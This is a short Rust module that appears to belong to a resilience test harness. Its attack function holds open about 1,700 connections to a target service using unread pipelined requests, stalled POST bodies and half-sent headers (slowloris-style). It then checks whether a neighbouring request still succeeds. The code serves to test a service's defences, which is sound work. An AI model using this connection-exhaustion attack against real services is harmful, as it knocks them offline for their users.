//! Clients that hold places: half a header, a body that drips, an answer that nobody reads.

use anyhow::Result;
use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;

use super::Scene;

/// More than the service may open files.
const HALF_HEADERS: usize = 1_500;
const HALF_BODIES: usize = 100;
const UNREAD: usize = 100;

pub(super) async fn attack(scene: &Scene<'_>) -> Result<()> {
    let at = &scene.victim.at;
    let mut held = Vec::new();
    let mut open = async |bytes: String| {
        let mut stream = TcpStream::connect(at).await?;
        // The service may have made room already.
        let _ = stream.write_all(bytes.as_bytes()).await;
        held.push(stream);
        anyhow::Ok(())
    };
    for _ in 0..UNREAD {
        open(format!("GET /sign-in HTTP/1.1\r\nhost: {at}\r\n\r\n").repeat(400)).await?;
    }
    for _ in 0..HALF_BODIES {
        let head =
            format!("POST /webhooks/tiktok-demo HTTP/1.1\r\nhost: {at}\r\ncontent-length: 100000\r\n\r\n{{");
        open(head).await?;
    }
    for _ in 0..HALF_HEADERS {
        open(format!("GET /healthz HTTP/1.1\r\nhost: {at}\r\nx-slow: ")).await?;
    }
    scene.neighbour()?.works_on(40).await?;
    drop(held);
    scene.neighbour()?.works_on(10).await
}
